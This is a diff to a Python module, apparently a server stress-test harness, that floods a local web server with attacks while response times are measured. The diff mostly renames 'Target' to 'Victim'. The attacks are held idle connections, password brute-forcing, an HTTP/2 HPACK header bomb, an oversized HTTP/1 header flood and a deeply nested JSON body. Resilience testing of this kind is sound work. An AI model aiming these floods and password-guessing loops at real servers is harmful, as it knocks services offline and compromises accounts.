@@ -1,7 +1,7 @@
-"""Cheap attacks on a web server: each runs until its time is over.
+"""Cheap attacks on a web server; each runs for a limited time.
 
-They run in a process of their own, so that they do not slow down the client whose
-answers are timed.
+They run in a separate process, so that they do not slow down the client that measures
+response times.
 """
 
 from __future__ import annotations
@@ -22,59 +22,59 @@ _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
-class Target:
+class Victim:
     """Where the server listens, and the path of a webhook without a secret."""
 
     port: int
     open_path: str
 
 
-Attack = Callable[[Target], Awaitable[None]]
+Attack = Callable[[Victim], Awaitable[None]]
 
 
-def run_attack(name: str, target: Target, seconds: float) -> None:
-    """Attack for so many seconds; an attacker that is refused begins again."""
+def run_attack(name: str, victim: Victim, seconds: float) -> None:
+    """Attack for a time; an attacker that is rejected starts again."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    asyncio.run(_run(ATTACKS[name], target, seconds))
+    asyncio.run(_run(ATTACKS[name], victim, seconds))
 
 
-async def _run(attack: Attack, target: Target, seconds: float) -> None:
+async def _run(attack: Attack, victim: Victim, seconds: float) -> None:
     with suppress(TimeoutError):
         async with asyncio.timeout(seconds):
-            await attack(target)
+            await attack(victim)
 
 
-async def _idle(target: Target) -> None:
-    await _together(IDLE_CONNECTIONS, target, _hold)
+async def _idle(victim: Victim) -> None:
+    await _run_clients(IDLE_CONNECTIONS, victim, _hold)
 
 
-async def _log_in(target: Target) -> None:
+async def _log_in(victim: Victim) -> None:
     numbers = itertools.count()
-    await _together(CLIENTS, target, lambda t: _try_passwords(t, numbers))
+    await _run_clients(CLIENTS, victim, lambda t: _try_passwords(t, numbers))
 
 
-async def _bomb_http_2(target: Target) -> None:
+async def _bomb_http_2(victim: Victim) -> None:
     streams = (_bomb_stream(2 * n + 1) for n in range(STREAMS_OF_BOMB))
     data = _PREFACE + b"".join(streams)
-    await _together(BOMBS, target, lambda t: _send_and_read(t, data))
+    await _run_clients(BOMBS, victim, lambda t: _send_and_read(t, data))
 
 
-async def _bomb_http_1(target: Target) -> None:
+async def _bomb_http_1(victim: Victim) -> None:
     lines = ["GET /nowhere HTTP/1.1", "Host: 127.0.0.1"]
     lines += [f"X-Bomb: {'a' * 40}"] * 1_200
     data = "\r\n".join([*lines, "", ""]).encode()
-    await _together(CLIENTS, target, lambda t: _send_and_read(t, data))
+    await _run_clients(CLIENTS, victim, lambda t: _send_and_read(t, data))
 
 
-async def _many_arrays(target: Target) -> None:
+async def _many_arrays(victim: Victim) -> None:
     body = b"[" + b"[]," * 1_000_000 + b"[]]"
     head = (
-        f"POST {target.open_path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
+        f"POST {victim.open_path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
         f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
     )
     data = head.encode() + body
-    await _together(12, target, lambda t: _send_and_read(t, data))
+    await _run_clients(12, victim, lambda t: _send_and_read(t, data))
 
 
 ATTACKS: dict[str, Attack] = {
@@ -86,24 +86,24 @@ ATTACKS: dict[str, Attack] = {
 }
 
 
-async def _together(count: int, target: Target, client: Attack) -> None:
-    await asyncio.gather(*(_again_and_again(target, client) for _ in range(count)))
+async def _run_clients(count: int, victim: Victim, client: Attack) -> None:
+    await asyncio.gather(*(_repeat(victim, client) for _ in range(count)))
 
 
-async def _again_and_again(target: Target, client: Attack) -> None:
+async def _repeat(victim: Victim, client: Attack) -> None:
     while True:
         with suppress(OSError, asyncio.IncompleteReadError, IndexError):
-            await client(target)
+            await client(victim)
         await asyncio.sleep(0)
 
 
-async def _hold(target: Target) -> None:
+async def _hold(victim: Victim) -> None:
     """Hold a connection without a byte until the server closes it."""
-    await _send_and_read(target, b"")
+    await _send_and_read(victim, b"")
 
 
-async def _send_and_read(target: Target, data: bytes) -> None:
-    reader, writer = await _connect(target)
+async def _send_and_read(victim: Victim, data: bytes) -> None:
+    reader, writer = await _connect(victim)
     try:
         writer.write(data)
         await reader.read()
@@ -111,8 +111,8 @@ async def _send_and_read(target: Target, data: bytes) -> None:
         writer.close()
 
 
-async def _try_passwords(target: Target, numbers: Iterator[int]) -> None:
-    reader, writer = await _connect(target)
+async def _try_passwords(victim: Victim, numbers: Iterator[int]) -> None:
+    reader, writer = await _connect(victim)
     try:
         cookie, token = await _login_token(reader, writer)
         while True:
@@ -146,15 +146,15 @@ async def _read_answer(reader: asyncio.StreamReader) -> str:
 
 
 async def _connect(
-    target: Target,
+    victim: Victim,
 ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
     return await asyncio.open_connection(
-        "127.0.0.1", target.port, local_addr=(SOURCE, 0)
+        "127.0.0.1", victim.port, local_addr=(SOURCE, 0)
     )
 
 
 def _bomb_stream(stream: int) -> bytes:
-    """Return one request whose headers are 16 MB once HPACK (RFC 7541) is undone."""
+    """Return one request whose headers are 16 MB after HPACK decoding (RFC 7541)."""
     path = b"/nowhere"
     block = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
     value = b"a" * 4_000
